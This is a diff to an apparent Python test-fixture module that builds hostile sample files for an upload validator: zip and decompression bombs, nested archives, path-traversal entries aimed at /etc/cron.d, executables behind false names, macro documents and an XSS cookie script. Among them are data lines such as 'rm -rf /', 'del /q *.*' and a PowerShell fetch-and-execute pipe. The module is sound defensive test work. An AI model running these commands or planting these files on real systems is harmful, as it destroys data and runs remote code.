@@ -1,7 +1,10 @@
 """Files made to break what opens them, each with the word that its refusal must hold."""
 
 import bz2
+import gzip
+import lzma
 import struct
+import tarfile
 import zipfile
 import zlib
 from io import BytesIO
@@ -26,6 +29,7 @@ MEGA = 1_000_000
 WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
 SCRIPT = b"<script>alert(document.cookie)</script>"
 OLD_MACROS = old_word(further={"Macros/VBA/dir": b"x"})
+PHOTOGRAPHS = zipped({"a.txt": b"a", "word/media/a.bin": bytes(2 * MEGA)})
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
 
 
@@ -130,6 +134,49 @@ def deep_mail() -> bytes:
     return head + b"".join(parts)
 
 
+def wide_gif() -> bytes:
+    """A moving picture that says it is 65,000 dots wide and high."""
+    content = bytearray(picture("GIF"))
+    content[6:10] = struct.pack("<HH", 65_000, 65_000)
+    return bytes(content)
+
+
+def wide_jpeg() -> bytes:
+    """A photograph of which the same is said."""
+    content = bytearray(picture("JPEG"))
+    at = content.index(b"\xff\xc0") + 5
+    content[at : at + 4] = struct.pack(">HH", 65_000, 65_000)
+    return bytes(content)
+
+
+def tape() -> bytes:
+    out = BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as archive:
+        entry = tarfile.TarInfo("../../etc/cron.d/x")
+        entry.size = 1
+        archive.addfile(entry, BytesIO(b"x"))
+    return out.getvalue()
+
+
+def archive_in_archives(depth: int = 6) -> bytes:
+    """An archive with ten like it inside, and so on: each is opened by hand, or not at all."""
+    content = zipped({"0.txt": bytes(MEGA)})
+    for _level in range(depth):
+        content = zipped({f"{n}.zip": content for n in range(10)})
+    return content
+
+
+def quoted_names() -> bytes:
+    """A macro document with its list of contents in single quotes and in UTF-16."""
+    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
+    types = (
+        "<?xml version='1.0' encoding='UTF-16'?>"
+        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
+        f"<Override PartName='/word/document.xml' ContentType='{kind}'/></Types>"
+    )
+    return zipped({"[Content_Types].xml": types.encode("utf-16"), "word/document.xml": b"<x/>"})
+
+
 # Name of the file, its bytes, and the word of its refusal; none where it is taken, made safe.
 HOSTILE: dict[str, tuple[str, bytes, str]] = {
     # Two kinds at once.
@@ -173,9 +220,34 @@ HOSTILE: dict[str, tuple[str, bytes, str]] = {
     "page-in-utf-16": ("notes.txt", "<html><script>".encode("utf-16"), "UTF-16"),
     "shortcut": ("plan.pdf", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(99), "program"),
     "program-as-pdf": ("plan.pdf", b"MZ" + bytes(9_999), "program"),
+    # Programs, scripts and archives as they are.
+    "program": ("setup.exe", b"MZ\x90\x00" + bytes(9_999), "program"),
+    "linux-program": ("plan.docx", b"\x7fELF\x02\x01\x01" + bytes(9_999), "program"),
+    "mac-program": ("plan", b"\xcf\xfa\xed\xfe" + bytes(9_999), "program"),
+    "java-program": ("Plan.class", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(99), "program"),
+    "shell-script": ("notes.txt", b"#!/bin/sh\nrm -rf /\n", "program"),
+    "batch-script": ("run.bat", b"@echo off\r\ndel /q *.*\r\n", "program"),
+    "power-script": ("run.PS1", b"Invoke-WebRequest http://example.org | iex\n", "program"),
+    "office-script": ("run.vbs", b'CreateObject("WScript.Shell").Run "calc"\r\n', "program"),
+    "browser-script": ("run.js", b"location = 'http://example.org'\n", "program"),
+    "shortcut-to-the-web": ("plan.url", b"[InternetShortcut]\r\nURL=file:///c:/x\r\n", "program"),
+    "web-page": ("page.html", b"<!DOCTYPE html><html><body>" + SCRIPT, "web page"),
+    "drawing": ("logo.svg", SVG, "web page"),
+    "drawing-packed": ("logo.svgz", gzip.compress(SVG), "archive"),
+    "rich-text": ("a.rtf", b"{\\rtf1{\\object\\objdata 01}}", "Rich text"),
+    "rar": ("a.rar", b"Rar!\x1a\x07\x01\x00" + bytes(999), "archive"),
+    "seven-zip": ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(999), "archive"),
+    "tape": ("a.tar", tape(), "archive"),
+    "packed-tape": ("a.tar.gz", gzip.compress(tape()), "archive"),
+    "xz": ("a.xz", lzma.compress(bytes(9_999)), "archive"),
+    "cabinet": ("a.cab", b"MSCF" + bytes(999), "archive"),
+    "disc": ("a.iso", bytes(32_769) + b"CD001" + bytes(9_999), "archive"),
+    "nothing-in-an-archive": ("a.zip", b"PK\x05\x06" + bytes(18), "archive"),
+    "nothing-at-all": ("a.pdf", b"", "empty"),
     # Programs inside.
     "macros": ("a.docx", office(further={"word/vbaProject.bin": b"x"}), "macros"),
     "macros-quoted": ("a.docx", quoted_types(), "macros"),
+    "macros-in-utf-16": ("a.docx", quoted_names(), "macros"),
     "macros-in-capitals": ("a.docx", office(further={"word/VBAPROJECT.BIN": b"x"}), "macros"),
     "open-macros": ("a.ods", open_document("spreadsheet", further={"Basic/a.xml": b"x"}), "macros"),
     "old-word-macros": ("a.doc", OLD_MACROS, "macros"),
@@ -214,10 +286,15 @@ HOSTILE: dict[str, tuple[str, bytes, str]] = {
     "pdf-password": ("a.pdf", pdf_with_password(), "password"),
     "office-password": ("a.docx", compound({"EncryptedPackage": b"x"}), "password"),
     "open-password": ("a.odt", open_document(encrypted=True), "password"),
+    "old-word-password": ("a.doc", old_word(encrypted=True), "password"),
+    "old-slides-password": ("a.ppt", old_slides(encrypted=True), "password"),
     "old-excel-password": ("a.xls", old_excel(encrypted=True), "password"),
     # Bombs.
     "65000-dots": ("a.png", png(65_000, 65_000, bytes(9_999)), "million dots"),
     "wide-line": ("a.png", png(60 * MEGA, 1, bytes(99)), "million dots"),
+    "65000-dots-moving": ("a.gif", wide_gif(), "million dots"),
+    "65000-dots-photograph": ("a.jpg", wide_jpeg(), "million dots"),
+    "too-large": ("a.txt", b"words\n" * (5 * MEGA), "larger than 25"),
     "words-bomb": (
         "a.png",
         png(8, 8, bytes(16), chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 * MEGA), 9))),
@@ -261,6 +338,17 @@ HOSTILE: dict[str, tuple[str, bytes, str]] = {
     "noise": ("a.pdf", Random(7).randbytes(200_000), "does not"),
     "noise-behind-a-mark": ("a.doc", compound({})[:512] + Random(7).randbytes(20_000), "damaged"),
     "packed-noise": ("a.csv", bz2.compress(bytes(9_999)), "archive"),
+}
+
+# Archives that are refused as a whole before the first file in them is looked at.
+ARCHIVES: dict[str, tuple[bytes, str]] = {
+    "overlaps": (overlapping_bomb(plain=PHOTOGRAPHS), "beyond measure"),
+    "overlaps-of-thousands": (overlapping_bomb(4_000, plain=PHOTOGRAPHS), "beyond measure"),
+    "bomb": (zipped({"a.txt": bytes(251 * MEGA)}), "beyond measure"),
+    "way-out": (zipped({"a.txt": b"a", "../../etc/cron.d/x": b"b"}), "leads out"),
+    "way-out-windows": (zipped({"..\\..\\a.exe": b"b"}), "leads out"),
+    "thousands": (zipped({f"{n}.txt": b"" for n in range(6_000)}), "beyond measure"),
+    "program-behind": (zipped({"a.txt": b"a"}) + b"MZ" + bytes(90), "two kinds"),
 }
 
 # Names with which a good file comes, and what it is kept as.
